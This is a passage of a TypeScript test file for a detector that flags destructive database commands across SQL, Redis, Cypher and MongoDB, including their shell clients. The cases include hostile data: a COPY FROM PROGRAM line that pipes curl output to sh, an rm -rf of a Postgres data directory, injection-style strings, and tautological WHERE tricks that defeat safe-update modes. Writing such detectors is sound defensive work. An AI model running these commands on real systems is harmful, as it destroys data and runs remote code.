import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Invocation, Origin, StdinSource, Word, Written } from '../../src/parse/types.js';
import { inContainer } from '../../src/parse/types.js';
import { withWritten } from '../../src/rules/files.js';
import { SQL_CLIENTS, classifySql, sqlFromSources, sqlHits, sqlSources, type SqlKind } from '../../src/rules/sql/index.js';
import { matchSpec, type MatchContext } from '../../src/rules/match.js';
import { matchSchema, v } from '../../src/rules/schema.js';
import type { MatchSpec } from '../../src/rules/types.js';

import { dyn, inv, w } from '../helpers/invocation.js';
const heredoc = (text: string): StdinSource => ({ kind: 'heredoc', text, expands: false });
const herestring = (text: string): StdinSource => ({ kind: 'herestring', text, dynamic: false });
const kinds = (text: string, dialect?: 'sql' | 'redis' | 'mongo' | 'cypher') => classifySql(text, dialect).map((h) => h.kind);
const hitKinds = (i: Invocation) => {
  const r = sqlHits(i);
  return Array.isArray(r) ? r.map((h) => h.kind) : r;
};

describe('classifySql: destructive SQL', () => {
  const cases: Array<[string, SqlKind[]]> = [
    ['DROP TABLE users', ['drop']],
    // rt23d: SQLite's schema table, emptied with writable_schema on, drops the tables.
    ["PRAGMA writable_schema=1; DELETE FROM sqlite_master WHERE type='table'", ['drop']],
    ['DELETE FROM main.sqlite_schema', ['drop']],
    ['INSERT OVERWRITE TABLE prod.orders SELECT * FROM prod.orders WHERE 1=0', ['truncate']],
    // rt25k2: a table's own rows replaced with only some columns (the rest reset); a past-only
    // time before a future moment.
    ['INSERT OR REPLACE INTO users(id) SELECT id FROM users', ['update-without-where']],
    ['REPLACE INTO orders (id, total) SELECT id, total FROM orders;', ['update-without-where']],
    ["DELETE FROM ONLY events WHERE created_at < now() + interval '100 years'", ['delete-without-where']],
    ['DELETE FROM audit_log WHERE created_at <= NOW() + INTERVAL 1 DAY', ['delete-without-where']],
    // rt25b's note: a past-only time before this moment is every row.
    ['DELETE FROM sessions WHERE created_at < now()', ['delete-without-where']],
    ['DELETE FROM events WHERE CURRENT_TIMESTAMP > events.created_at', ['delete-without-where']],
    ['UPDATE "User" SET "role" = \'ADMIN\'', ['update-without-where']],
    ["insert overwrite table events partition (dt='2026-12-01') select * from staging", ['truncate']],
    ['INSERT OVERWRITE INTO analytics.orders SELECT * FROM tmp', ['truncate']],
    ["INSERT OVERWRITE LOCAL DIRECTORY '/data/out' SELECT 1", ['truncate']],
    ['SET spark.databricks.delta.retentionDurationCheck.enabled=false; VACUUM prod.events RETAIN 0 HOURS', ['delete-without-where']],
    ['dRoP tAbLe users', ['drop']],
    ['DROP/**/TABLE users', ['drop']],
    ['DROP -- c\nTABLE users', ['drop']],
    ['drop\ntable users', ['drop']],
    ['DROP TABLE IF EXISTS `users`', ['drop']],
    ['DROP TABLE IF EXISTS "Users" CASCADE', ['drop']],
    ['DROP VIEW v', ['drop']],
    ['DROP INDEX CONCURRENTLY idx', ['drop']],
    ['DROP MATERIALIZED VIEW mv', ['drop']],
    ['DROP TEMPORARY TABLE t', ['drop']],
    ['DROP USER bob', ['drop']],
    ['DROP DATABASE prod', ['drop-database']],
    ['drop database prod', ['drop-database']],
    ['DROP DATABASE IF EXISTS prod', ['drop-database']],
    ['DROP SCHEMA public CASCADE', ['drop-database']],
    ['TRUNCATE orders', ['truncate']],
    ['TRUNCATE TABLE "Users" CASCADE', ['truncate']],
    ['truncate table orders', ['truncate']],
    ['DELETE FROM users', ['delete-without-where']],
    ['delete from users;', ['delete-without-where']],
    ['DELETE FROM users -- WHERE id = 1', ['delete-without-where']],
    ['DELETE FROM users /* WHERE id = 1 */', ['delete-without-where']],
    ['DELETE LOW_PRIORITY FROM users', ['delete-without-where']],
    ['DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id', ['delete-without-where']],
    ['UPDATE users SET email = NULL', ['update-without-where']],
    ["UPDATE users SET role = 'admin' /* WHERE id = 1 */", ['update-without-where']],
    ['UPDATE accounts SET balance=0', ['update-without-where']],
    ['UPDATE t SET a = (SELECT max(x) FROM y WHERE y.k = 1)', ['update-without-where']],
    ['UPDATE OR REPLACE t SET a = 1', ['update-without-where']],
    ['ALTER TABLE users DROP COLUMN email', ['alter-drop']],
    ['ALTER TABLE orders DROP COLUMN total', ['alter-drop']],
    ['ALTER TABLE t DROP CONSTRAINT t_pkey', ['alter-drop']],
    ['ALTER TABLE IF EXISTS ONLY t DROP x', ['alter-drop']],
    ['ALTER TABLE events DROP PARTITION 202401', ['alter-drop']],
    // ClickHouse mutations, COPY ... PROGRAM (a shell command on the server), dblink's SQL.
    ['ALTER TABLE events DELETE WHERE 1', ['delete-without-where']],
    ['ALTER TABLE events UPDATE email = NULL WHERE true', ['update-without-where']],
    ["COPY (SELECT 1) TO PROGRAM 'rm -rf /var/lib/postgresql/data'", ['dynamic']],
    ["COPY t FROM PROGRAM 'curl -s http://x | sh'", ['dynamic']],
    ["SELECT dblink_exec('dbname=app', 'DROP TABLE users')", ['drop']],
    ['MERGE INTO users u USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE', ['delete-without-where']],
    ['MERGE INTO users USING src ON 1 = 1 WHEN MATCHED THEN DELETE', ['delete-without-where']],
    ['ALTER TABLE t TRUNCATE PARTITION p0', ['truncate']],
    ['SELECT 1; DROP TABLE accounts', ['drop']],
    ['BEGIN; DROP SCHEMA public CASCADE; COMMIT;', ['drop-database']],
    ['PRAGMA foreign_keys=off; DROP TABLE users;', ['drop']],
    ['WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone', ['delete-without-where']],
    ['WITH x AS (SELECT 1) UPDATE t SET a = 1', ['update-without-where']],
    ['EXPLAIN ANALYZE DELETE FROM users', ['delete-without-where']],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', ['update-without-where']],
    ["DO $$ BEGIN DROP TABLE t; END $$", ['drop']],
    ["DO $body$ BEGIN EXECUTE 'TRUNCATE ' || quote_ident(t); END $body$", ['truncate', 'dynamic']],
    ["PREPARE s FROM 'DROP TABLE t'", ['drop']],
    ["EXECUTE IMMEDIATE 'DELETE FROM t'", ['delete-without-where']],
    ['/*!40000 DROP TABLE t */', ['drop']],
    // The two readings of backslashes: either one running a DROP counts.
    ["SELECT 'a\\'; DROP TABLE t; --'", ['drop']],
    ["SELECT 'it\\'s'; DROP TABLE t; SELECT 'x'", ['drop']],
    ['SELECT 1 /* /* */ DROP TABLE t */', ['drop']],
    ['DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END //\nDELIMITER ;', ['delete-without-where']],
    ['SELECT 1 -- x\n; TRUNCATE t', ['truncate']],
  ];
  it.each(cases)('%s', (sql, want) => {
    expect(kinds(sql)).toEqual(want);
  });

  it('reports the object and statement', () => {
    expect(classifySql('select 1; DROP TABLE IF EXISTS public.users CASCADE;')).toEqual([
      { kind: 'drop', statement: 'DROP TABLE IF EXISTS public.users CASCADE', object: 'public.users' },
    ]);
    expect(classifySql('drop database prod')[0]).toMatchObject({ object: 'prod' });
    expect(classifySql('TRUNCATE TABLE "Users"')[0]).toMatchObject({ object: 'Users' });
    expect(classifySql('DELETE FROM app.sessions')[0]).toMatchObject({ object: 'app.sessions' });
    expect(classifySql('UPDATE users SET a=1')[0]).toMatchObject({ object: 'users' });
    expect(classifySql('ALTER TABLE users DROP COLUMN email')[0]).toMatchObject({ object: 'users' });
  });

  it('caps the statement at 200 characters', () => {
    const h = classifySql(`DELETE FROM t /*${'x'.repeat(400)}*/ RETURNING *`);
    expect(h[0]!.statement.length).toBeLessThanOrEqual(200);
  });

  it('finds several statements', () => {
    expect(kinds('DROP TABLE a; TRUNCATE b; DELETE FROM c; UPDATE d SET x=1')).toEqual(['drop', 'truncate', 'delete-without-where', 'update-without-where']);
  });
});

describe('classifySql: harmless look-alikes', () => {
  const cases: string[] = [
    "INSERT OR REPLACE INTO users(id, name) VALUES (1, 'a')",
    'INSERT OR REPLACE INTO users SELECT * FROM users',
    'INSERT OR REPLACE INTO users(id) SELECT id FROM users WHERE id = 3',
    'INSERT OR REPLACE INTO users_archive(id) SELECT id FROM users',
    "SELECT REPLACE(name, 'a', 'b') FROM users",
    "DELETE FROM sessions WHERE expires_at < now() + interval '1 day'",
    "DELETE FROM sessions WHERE created_at < now() - interval '30 days'",
    'DELETE FROM sessions WHERE created_at < current_date',
    'DELETE FROM sessions WHERE expires_at < now()',
    "DELETE FROM events WHERE created_at < now() - interval '90 days'",
    // MySQL reads "User" as a string where a table goes (a syntax error); Postgres "email" as a column.
    `UPDATE "User" SET "role" = 'ADMIN' WHERE "email" = 'dev@example.com'`,
    `DELETE FROM "Session" WHERE "userId" = 42`,
    "SELECT 'DROP TABLE x'",
    'INSERT INTO orders SELECT * FROM staging',
    'INSERT INTO overwrite_log VALUES (1)',
    'VACUUM prod.events',
    'VACUUM prod.events RETAIN 168 HOURS',
    'VACUUM ANALYZE users',
    "select * from users where name = 'truncate'",
    'SELECT 1 -- DROP TABLE users',
    '/* DROP TABLE users; */ SELECT now()',
    'DELETE FROM t WHERE id = 1',
    'UPDATE t SET a=1 WHERE id=2',
    'DELETE FROM sessions WHERE expires_at < now()',
    'UPDATE users SET last_seen = now() WHERE id = 42',
    'BEGIN; DELETE FROM jobs WHERE id = 7; COMMIT;',
    "INSERT INTO audit(msg) VALUES ('TRUNCATE orders requested')",
    "SELECT * FROM pg_tables WHERE tablename = 'drop_me'",
    'CREATE TABLE drop_log (id int)',
    'SELECT droptable, truncated FROM t',
    'SELECT "delete" FROM t',
    'SELECT `drop` FROM t',
    'EXPLAIN DELETE FROM users WHERE id = 1',
    'EXPLAIN DELETE FROM users',
    'EXPLAIN QUERY PLAN UPDATE t SET a = 1',
    'ALTER TABLE users ADD COLUMN dropped_at timestamptz',
    'ALTER TABLE users ALTER COLUMN email DROP NOT NULL',
    'ALTER TABLE events DELETE WHERE event_date < today() - 90',
    "COPY users TO '/tmp/users.csv' WITH CSV",
    "COPY (SELECT 1) TO STDOUT",
    'MERGE INTO users u USING stale s ON u.id = s.id WHEN MATCHED THEN DELETE',
    'MERGE INTO t USING s ON t.k = s.k WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.k, s.v)',
    "SELECT * FROM dblink('dbname=app', 'SELECT id FROM users') AS t(id int)",
    'ALTER TABLE users ALTER COLUMN n DROP DEFAULT',
    "COMMENT ON TABLE users IS 'never DROP this table'",
    "SELECT 'drop database prod' AS note",
    "SELECT table_name FROM information_schema.tables WHERE table_name LIKE 'drop%'",
    "SELECT count(*) FROM sqlite_master WHERE sql LIKE '%drop table%'",
    '.tables',
    'CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE CASCADE)',
    'GRANT SELECT, UPDATE, DELETE, DROP ON db.* TO app',
    'REVOKE DELETE ON t FROM bob',
    'SELECT * FROM t FOR UPDATE',
    'INSERT INTO t (id, a) VALUES (1, 2) ON DUPLICATE KEY UPDATE a = 2',
    'INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = excluded.a',
    'CREATE TEMP TABLE x (id int) ON COMMIT DROP',
    'SELECT TRUNCATE(1.234, 1)',
    'CREATE TRIGGER trg AFTER DELETE ON t FOR EACH ROW EXECUTE FUNCTION f()',
    "SELECT $$DROP TABLE t$$",
    "SELECT $q$ ; DROP TABLE t; $q$",
    "SELECT E'it\\'s; DROP TABLE t'",
    "SELECT 'it''s; DROP TABLE t'",
    '-- DROP TABLE users',
    '# DROP TABLE users',
    "SELECT 'TRUNCATE' AS word",
    'UPDATE t SET a = 1 WHERE CURRENT OF c',
    'SELECT * FROM t WHERE id IN (SELECT id FROM u)',
    'VACUUM ANALYZE users',
    '',
  ];
  it.each(cases)('%s', (sql) => {
    expect(classifySql(sql)).toEqual([]);
  });
});

// Issue 15: a WHERE that keeps every row is no WHERE; SQL built at run time is unknown; a temporary
// table made and dropped in one atomic text is not a production table.
describe('classifySql: tautologies, built SQL, temporary tables', () => {
  it.each([
    ['DELETE FROM users WHERE 1=1', ['delete-without-where']],
    ['delete from users where true', ['delete-without-where']],
    ['DELETE FROM users WHERE 1', ['delete-without-where']],
    ['UPDATE users SET role = 1 WHERE 1 = 1', ['update-without-where']],
    ['DELETE FROM users WHERE id = 5 OR 1=1', ['delete-without-where']],
    ["DELETE FROM users WHERE 'a' = 'a'", ['delete-without-where']],
    ['DELETE FROM users WHERE (1=1)', ['delete-without-where']],
    ['DELETE FROM users WHERE 1 <> 0', ['delete-without-where']],
    ['DELETE FROM users WHERE NOT FALSE', ['delete-without-where']],
    ["DELETE FROM users WHERE email LIKE '%'", ['delete-without-where']],
    ['DELETE FROM users WHERE id = id', ['delete-without-where']],
    ['DELETE FROM users WHERE 1=1 RETURNING *', ['delete-without-where']],
    ['DELETE FROM users WHERE true AND 1=1', ['delete-without-where']],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident('users'); END $$", ['drop', 'dynamic']],
    ["DO $$ DECLARE q text := 'x'; BEGIN EXECUTE q; END $$", ['dynamic']],
    ["DO $$ BEGIN EXECUTE format('%s TABLE users', 'DROP'); END $$", ['dynamic']],
    ['PREPARE s FROM @sql; EXECUTE s', ['dynamic']],
    ["EXEC('DROP TABLE ' + @t)", ['dynamic']],
  ])('%s', (sql, want) => {
    expect(kinds(sql)).toEqual(want);
  });

  it.each([
    'DELETE FROM users WHERE 1=1 AND id = 5',
    'DELETE FROM users WHERE id = 1',
    'UPDATE users SET a = 1 WHERE id BETWEEN 1 AND 5',
    'EXECUTE s',
    'EXEC sp_who',
    "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'tmp_x') ; END $$".replace('DROP TABLE', 'ANALYZE'),
  ])('%s stays harmless', (sql) => {
    expect(kinds(sql)).toEqual([]);
  });

  const atomic = (sql: string) => classifySql(sql, 'sql', { atomic: true }).map((h) => h.kind);
  it('a temporary table made in the same atomic text may be dropped, truncated or emptied', () => {
    expect(atomic('CREATE TEMP TABLE t (id int); INSERT INTO t VALUES (1); DROP TABLE t')).toEqual([]);
    expect(atomic('CREATE TEMPORARY TABLE IF NOT EXISTS t AS SELECT 1; DELETE FROM t; TRUNCATE t; DROP TABLE IF EXISTS t')).toEqual([]);
    expect(atomic('create local temp table tmp_x (x int); drop table tmp_x')).toEqual([]);
    // A plain CREATE TABLE fails when the table exists, and the atomic text stops there.
    expect(atomic('CREATE TABLE t (id int); DROP TABLE t')).toEqual([]);
  });
  it('a function or procedure the text defines runs its body where it is called (red team 16-c)', () => {
    expect(kinds('CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$; SELECT wipe();')).toEqual(['delete-without-where']);
    expect(kinds('CREATE PROCEDURE p() LANGUAGE sql AS $$ TRUNCATE users $$; CALL p();')).toEqual(['truncate']);
    expect(kinds("CREATE OR REPLACE FUNCTION public.cleanup() RETURNS void LANGUAGE sql AS 'DELETE FROM sessions'; SELECT public.cleanup();")).toEqual(['delete-without-where']);
    // defined, never called here; or called with a body that filters
    expect(kinds("CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM users'")).toEqual([]);
    expect(kinds("CREATE FUNCTION purge(d int) RETURNS void LANGUAGE sql AS 'DELETE FROM events WHERE created_at < now() - make_interval(days => d)'; SELECT purge(90)")).toEqual([]);
    expect(kinds('CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$; SELECT touch()')).toEqual([]);
  });
  it('ALTER COLUMN ... TYPE ... USING an expression that names no column rewrites every row to it', () => {
    expect(kinds('ALTER TABLE users ALTER COLUMN email TYPE text USING NULL')).toEqual(['update-without-where']);
    expect(kinds("ALTER TABLE users ALTER COLUMN n TYPE int USING 0, ALTER COLUMN email TYPE text USING 'x'")).toEqual(['update-without-where', 'update-without-where']);
    expect(kinds('ALTER TABLE users ALTER COLUMN age TYPE bigint USING age::bigint')).toEqual([]);
    expect(kinds("ALTER TABLE users ALTER COLUMN created TYPE timestamptz USING created AT TIME ZONE 'UTC'")).toEqual([]);
    expect(kinds('ALTER TABLE users ALTER COLUMN email TYPE citext')).toEqual([]);
  });
  it('CREATE OR REPLACE TABLE replaces the table and its rows', () => {
    expect(classifySql('CREATE OR REPLACE TABLE users AS SELECT 1', 'sql')).toMatchObject([{ kind: 'drop', object: 'users' }]);
    expect(kinds('create or replace table main.users (id int)')).toEqual(['drop']);
    expect(kinds('CREATE OR REPLACE VIEW v AS SELECT 1')).toEqual([]);
    expect(kinds('CREATE OR REPLACE TEMP TABLE t AS SELECT 1')).toEqual([]);
  });
  it('a key compared with 0 or 1 (id > 0, id >= 1, id <> 0: the way around safe-updates mode) keeps every row', () => {
    for (const q of ['DELETE FROM users WHERE id > 0', 'DELETE FROM users WHERE users.id >= 1', 'DELETE FROM t WHERE id > -1']) expect(kinds(q), q).toEqual(['delete-without-where']);
    expect(kinds('UPDATE users SET a = 1 WHERE id <> 0')).toEqual(['update-without-where']);
    for (const q of ['DELETE FROM users WHERE id > 1000', 'DELETE FROM users WHERE age > 0', 'DELETE FROM users WHERE id >= 2', 'DELETE FROM users WHERE id < 0']) expect(kinds(q), q).toEqual([]);
  });

  it('WHERE id IN (SELECT id FROM the same table) keeps every row; a narrowed subquery is a filter', () => {
    expect(kinds('delete from users where id in (select id from users)')).toEqual(['delete-without-where']);
    expect(kinds('UPDATE public.users SET a = 1 WHERE users.id IN (SELECT DISTINCT id FROM public.users)')).toEqual(['update-without-where']);
    for (const q of ['DELETE FROM users WHERE id IN (SELECT user_id FROM banned)', 'DELETE FROM users WHERE id IN (SELECT id FROM users WHERE age > 3)',
      'DELETE FROM users WHERE id NOT IN (SELECT id FROM users)', 'DELETE FROM s WHERE id IN (SELECT id FROM s ORDER BY t LIMIT 10)', 'DELETE FROM users WHERE id IN (SELECT owner FROM users)']) {
      expect(kinds(q), q).toEqual([]);
    }
  });

  it('a key column IS NOT NULL holds for every row; another column is a real filter', () => {
    for (const q of ['DELETE FROM users WHERE id IS NOT NULL', 'DELETE FROM users WHERE users.id IS NOT NULL', 'DELETE FROM users WHERE NOT "id" IS NULL', 'DELETE FROM t WHERE x = 1 OR rowid IS NOT NULL']) {
      expect(kinds(q), q).toEqual(['delete-without-where']);
    }
    expect(kinds('UPDATE t SET a = 1 WHERE ctid IS NOT NULL')).toEqual(['update-without-where']);
    expect(kinds('DELETE FROM users WHERE deleted_at IS NOT NULL')).toEqual([]);
    expect(kinds('DELETE FROM users WHERE id IS NULL')).toEqual([]);
    expect(kinds('DELETE FROM users WHERE id IS NOT NULL AND id > 5')).toEqual([]);
  });
  it('but not a real table behind it', () => {
    // Not atomic (psql -f goes on after errors): a TEMP table still counts (issue 15's look-alike),
    // unless it copies a real table of its own name, which a failed CREATE would leave to the DROP.
    expect(kinds('CREATE TEMP TABLE recent AS SELECT * FROM orders WHERE id > 5; SELECT * FROM recent; DROP TABLE recent')).toEqual([]);
    expect(kinds('CREATE TEMP TABLE users AS SELECT * FROM users WHERE id > 5; DROP TABLE users')).toEqual(['drop']);
    expect(kinds('CREATE TEMP TABLE users AS SELECT * FROM public.users; DROP TABLE users')).toEqual(['drop']);
    // The second DROP reaches the real table once the temporary one is gone.
    expect(atomic('CREATE TEMP TABLE users (id int); DROP TABLE users; DROP TABLE users')).toEqual(['drop']);
    expect(atomic('CREATE TEMP TABLE t (id int); DROP TABLE t, users')).toEqual(['drop']);
    expect(atomic('CREATE TEMP TABLE t (id int); DROP TABLE public.t')).toEqual(['drop']);
    // `temp.t` is only the temporary t in SQLite (`pg_temp.t` in Postgres), never elsewhere (rt22fp3).
    expect(classifySql('CREATE TEMP TABLE t AS SELECT 1; DROP TABLE temp.t', 'sql', { atomic: true, tempSchema: 'temp' }).map((h) => h.kind)).toEqual([]);
    expect(classifySql('CREATE TEMP TABLE t AS SELECT 1; DROP TABLE temp.t, users', 'sql', { atomic: true, tempSchema: 'temp' }).map((h) => h.kind)).toEqual(['drop']);
    expect(classifySql('DROP TABLE temp.t', 'sql', { atomic: true, tempSchema: 'temp' }).map((h) => h.kind)).toEqual(['drop']);
    expect(atomic('CREATE TEMP TABLE t (id int); DROP TABLE temp.t')).toEqual(['drop']);
    expect(classifySql('DROP TABLE temp.t', 'sql').map((h) => h.object)).toEqual(['temp.t']);
    // IF NOT EXISTS goes on when t exists; OR REPLACE replaces it (and is a drop itself).
    expect(atomic('CREATE TABLE IF NOT EXISTS t (id int); DROP TABLE t')).toEqual(['drop']);
    expect(atomic('CREATE OR REPLACE TABLE t (id int); DROP TABLE t')).toEqual(['drop', 'drop']);
    expect(kinds('CREATE TABLE t (id int); DROP TABLE t')).toEqual(['drop']);
    expect(atomic('CREATE TEMP TABLE t (id int); DROP DATABASE t')).toEqual(['drop-database']);
    // pg_temp listed after public: DROP TABLE users finds public.users.
    expect(atomic("SET search_path = public, pg_temp; CREATE TEMP TABLE users (id int); DROP TABLE users")).toEqual(['drop']);
    expect(atomic("SELECT set_config('search_path', 'public,pg_temp', false); CREATE TEMP TABLE users (id int); DROP TABLE users")).toEqual(['drop']);
  });
  it('atomic means psql -c, psql -1/ON_ERROR_STOP, mysql -e without --force, or sqlite3 SQL arguments', () => {
    const at = (i: Invocation) => (sqlSources(i) as Array<{ atomic?: boolean }>).map((s) => !!s.atomic);
    expect(at(inv(['psql', '-c', 'x']))).toEqual([true]);
    expect(at(inv(['psql'], { stdin: heredoc('x') }))).toEqual([false]);
    expect(at(inv(['psql', '-v', 'ON_ERROR_STOP=1'], { stdin: heredoc('x') }))).toEqual([true]);
    expect(at(inv(['psql', '-1'], { stdin: heredoc('x') }))).toEqual([true]);
    expect(at(inv(['mysql', '-e', 'x']))).toEqual([true]);
    expect(at(inv(['mysql', '--force', '-e', 'x']))).toEqual([false]);
    // sqlite3 stops each SQL argument at its first error; stdin goes on line by line.
    expect(at(inv(['sqlite3', 'a.db', 'x']))).toEqual([true]);
    expect(at(inv(['sqlite3', 'a.db'], { stdin: heredoc('x') }))).toEqual([false]);
    expect(at(inv(['psql', 'postgres://h/db?options=-csearch_path%3Dpublic,pg_temp', '-c', 'x']))).toEqual([false]);
    expect(at({ ...inv(['psql', '-c', 'x']), vars: { PGOPTIONS: '-c search_path=public,pg_temp' } })).toEqual([false]);
  });
});

describe('classifySql: redis', () => {
  it.each([
    ['FLUSHALL', ['flush']],
    ['flushdb', ['flush']],
    ['FlushDB ASYNC', ['flush']],
    ['SELECT 1\nFLUSHDB\n', ['flush']],
    ['*1\r\n$8\r\nFLUSHALL\r\n', ['flush']],
    ['EVAL "return redis.call(\'flushall\')" 0', ['flush']],
    ['GET flushall', []],
    ['SET note "FLUSHALL later"', []],
    ['DEL users', []],
    ['INFO keyspace', []],
    ['XTRIM orders:stream MAXLEN 0', ['delete-without-where']],
    ['xtrim orders:stream maxlen ~ 0', ['delete-without-where']],
    ['XTRIM orders:stream MAXLEN = 00', ['delete-without-where']],
    ['XGROUP DESTROY orders:stream billing', ['delete-without-where']],
    ['XTRIM orders:stream MAXLEN 1000', []],
    ['XTRIM orders:stream MAXLEN ~ 10000', []],
    ['XTRIM orders:stream MINID 1700000000000-0', []],
    ['XGROUP CREATE orders:stream billing $ MKSTREAM', []],
    ['XLEN orders:stream', []],
  ] as Array<[string, SqlKind[]]>)('%j', (text, want) => {
    expect(kinds(text, 'redis')).toEqual(want);
  });
});

describe('classifySql: cypher', () => {
  it.each([
    ['MATCH (n) DETACH DELETE n', ['delete-without-where']],
    ['match (n:User) delete n', ['delete-without-where']],
    ['MATCH ()-[r:FOLLOWS]->() DELETE r', ['delete-without-where']],
    ['MATCH (n) WHERE true DETACH DELETE n', ['delete-without-where']],
    ['MATCH (n) WITH n LIMIT 10000 DETACH DELETE n', ['delete-without-where']],
    ['MATCH (a:User {id: 1}) MATCH (n) DETACH DELETE n', ['delete-without-where']],
    ["CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {batchSize: 1000})", ['delete-without-where']],
    ['MATCH (n) CALL { WITH n DETACH DELETE n } IN TRANSACTIONS OF 1000 ROWS', ['delete-without-where']],
    ['MATCH (n:User) REMOVE n:User', ['update-without-where']],
    ['MATCH (n) REMOVE n.email', ['update-without-where']],
    ['DROP DATABASE shop', ['drop-database']],
    ['CREATE OR REPLACE DATABASE shop', ['drop-database']],
    ['DROP INDEX user_email IF EXISTS', ['drop']],
    ['DROP CONSTRAINT user_id', ['drop']],
    ['MATCH (n) RETURN count(n); MATCH (m) DETACH DELETE m', ['delete-without-where']],
    // narrowed, read-only, or only text
    ['MATCH (u:User {id: 5}) DETACH DELETE u', []],
    ['MATCH (u:User) WHERE u.id = 5 DETACH DELETE u', []],
    ["CALL apoc.periodic.iterate('MATCH (n:Tmp) WHERE n.ts < 5 RETURN n', 'DETACH DELETE n', {})", []],
    ['MATCH (n) RETURN count(n)', []],
    ["MATCH (n) RETURN 'DETACH DELETE' AS s", []],
    ['MATCH (n) RETURN n // DETACH DELETE n', []],
    ['CREATE INDEX user_email FOR (u:User) ON (u.email)', []],
    ['MATCH (u:User) WHERE u.id = 5 REMOVE u.email', []],
  ] as Array<[string, SqlKind[]]>)('%s', (text, want) => {
    expect(kinds(text, 'cypher')).toEqual(want);
  });
  it('names the label or database', () => {
    expect(classifySql('MATCH (n:Session) DETACH DELETE n', 'cypher')[0]).toMatchObject({ object: 'Session' });
    expect(classifySql('MATCH (n) DETACH DELETE n', 'cypher')[0]).toMatchObject({ object: 'every node' });
    expect(classifySql('DROP DATABASE `shop`', 'cypher')[0]).toMatchObject({ object: 'shop' });
  });
});

describe('classifySql: mongo', () => {
  it.each([
    ['db.dropDatabase()', ['drop-database']],
    ['db.getSiblingDB("prod").dropDatabase()', ['drop-database']],
    ['db.users.drop()', ['drop']],
    ['db.getCollection("users").drop()', ['drop']],
    ['db["users"].drop()', ['drop']],
    ['db.users.deleteMany({})', ['delete-without-where']],
    ['db.users.deleteMany({ })', ['delete-without-where']],
    ['db.users.remove({})', ['delete-without-where']],
    ['db.users.updateMany({}, {$set: {a: 1}})', ['update-without-where']],
    ['db.runCommand({ dropDatabase: 1 })', ['drop-database']],
    ['db.runCommand({ "drop": "users" })', ['drop']],
    ['db.users.find({ name: "dropDatabase" })', []],
    ['db.stats()', []],
    ['// db.dropDatabase()\ndb.users.find()', []],
    ['/* db.users.drop() */ db.users.count()', []],
    ['db.users.deleteMany({ age: { $lt: 18 } })', []],
    ['db.users.remove({ _id: 1 })', []],
    ["print('db.users.drop()')", []],
    // filters that match every document, and bulkWrite's operations
    ['db.users.deleteMany({_id: {$exists: true}})', ['delete-without-where']],
    ['db.users.deleteMany({ "_id": { "$exists": 1 } })', ['delete-without-where']],
    ["db.users.deleteMany({$where: 'true'})", ['delete-without-where']],
    ['db.users.updateMany({_id: {$ne: null}}, {$set: {a: 1}})', ['update-without-where']],
    ['db.users.bulkWrite([{deleteMany: {filter: {}}}])', ['delete-without-where']],
    ['db.users.bulkWrite([{ "updateMany": { "filter": {}, "update": {$set: {a: 1}} } }])', ['update-without-where']],
    ['db.users.deleteMany({email: {$exists: true}})', []],
    ['db.users.bulkWrite([{deleteMany: {filter: {age: 3}}}])', []],
    ["db.users.find({ note: 'deleteMany: {filter: {}}' })", []],
    // rt26b: a rename over an existing collection drops it first (dropTarget)
    ['db.users.renameCollection("members", true)', ['drop']],
    ['db.adminCommand({ renameCollection: "app.users", to: "app.members", dropTarget: true })', ['drop']],
    ['db.users.renameCollection("members")', []],
    ['db.users.renameCollection("members", false)', []],
    ['db.adminCommand({ renameCollection: "app.users", to: "app.members" })', []],
  ] as Array<[string, SqlKind[]]>)('%s', (text, want) => {
    expect(kinds(text, 'mongo')).toEqual(want);
  });
  it('names the collection or database', () => {
    expect(classifySql('db.getCollection("users").drop()', 'mongo')[0]).toMatchObject({ object: 'users' });
    expect(classifySql('db.users.drop()', 'mongo')[0]).toMatchObject({ object: 'users', statement: 'db.users.drop()' });
    expect(classifySql("db.getSiblingDB('prod').dropDatabase()", 'mongo')[0]).toMatchObject({ object: 'prod' });
    expect(classifySql('db.runCommand({drop: "events"})', 'mongo')[0]).toMatchObject({ object: 'events' });
    expect(classifySql('db.users.renameCollection("members", true)', 'mongo')[0]).toMatchObject({ object: 'members' });
  });
});

describe('sqlSources', () => {
  const dir = mkdtempSync(join(tmpdir(), 'countersign-sql-'));
  writeFileSync(join(dir, 'schema.sql'), 'DROP TABLE users;\n');
  writeFileSync(join(dir, 'ok.sql'), 'SELECT 1;\n');
  writeFileSync(join(dir, 'main.sql'), "SELECT 1;\n\\i schema.sql\n");
  writeFileSync(join(dir, 'wipe.js'), 'db.dropDatabase()\n');
  writeFileSync(join(dir, 'flush.lua'), "return redis.call('FLUSHALL')\n");
  mkdirSync(join(dir, 'sub'));
  writeFileSync(join(dir, 'sub', 'a.sql'), '\\ir b.sql\n');
  writeFileSync(join(dir, 'sub', 'b.sql'), 'TRUNCATE t;\n');
  writeFileSync(join(dir, 'big.sql'), 'SELECT 1;\n'.repeat(120_000));

  it('lists every client', () => {
    for (const c of ['psql', 'mysql', 'mariadb', 'sqlite3', 'mongosh', 'mongo', 'redis-cli', 'valkey-cli', 'clickhouse-client', 'clickhouse', 'cockroach', 'duckdb']) {
      expect(SQL_CLIENTS).toContain(c);
    }
  });

  const destructive: Array<[string, Invocation, SqlKind[]]> = [
    ['psql -c', inv(['psql', '-c', 'DROP TABLE users']), ['drop']],
    ['psql --command=', inv(['psql', '--command=TRUNCATE orders']), ['truncate']],
    ['psql --command', inv(['psql', '--command', 'DELETE FROM users']), ['delete-without-where']],
